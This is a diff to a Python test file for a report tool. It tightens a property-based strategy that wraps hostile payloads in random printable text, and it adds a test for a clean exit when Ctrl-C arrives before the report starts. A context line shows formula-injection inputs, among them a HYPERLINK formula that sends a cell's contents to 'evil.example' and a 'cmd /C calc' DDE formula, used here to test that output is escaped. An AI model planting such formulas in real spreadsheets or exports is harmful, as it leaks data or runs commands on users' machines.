@@ -52,10 +52,10 @@ FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A
 MATH = (r"$\frac{$ News", "$x^2$ Times", "Cost: $5 and $6", "a\\$b$")
 
 # hostile text: a payload, then anything printable around it
-hostile = st.builds(lambda a, p, b: f"{a}{p}{b}",
-                    st.text(st.characters(min_codepoint=32, max_codepoint=0x2FF), max_size=8),
+_printable = st.characters(min_codepoint=32, max_codepoint=0x2FF, exclude_categories=("Cc",))
+hostile = st.builds(lambda a, p, b: f"{a}{p}{b}", st.text(_printable, max_size=8),
                     st.sampled_from(PAYLOADS + FORMULAS[:4] + MATH),
-                    st.text(st.characters(min_codepoint=32, max_codepoint=0x2FF), max_size=8))
+                    st.text(_printable, max_size=8))
 
 
 class _Page(HTMLParser):
@@ -497,3 +497,16 @@ def test_unwritable_out_is_one_clear_error(capsys, tmp_path, monkeypatch):
                           "(Permission denied)")
     assert "Traceback" not in err
     assert not (tmp_path / "out").exists()
+
+
+def test_ctrl_c_before_the_report_starts_says_nothing_changed(capsys, tmp_path, monkeypatch):
+    import toolkit.report as report
+
+    def interrupted(*args, **kwargs):
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(report, "run_report", interrupted)
+    code, err = _cli(capsys, "--out", str(tmp_path / "out"))
+    assert code == 130
+    assert err == f"interrupted before the report started; nothing was changed in " \
+                  f"{tmp_path / 'out'}\n"
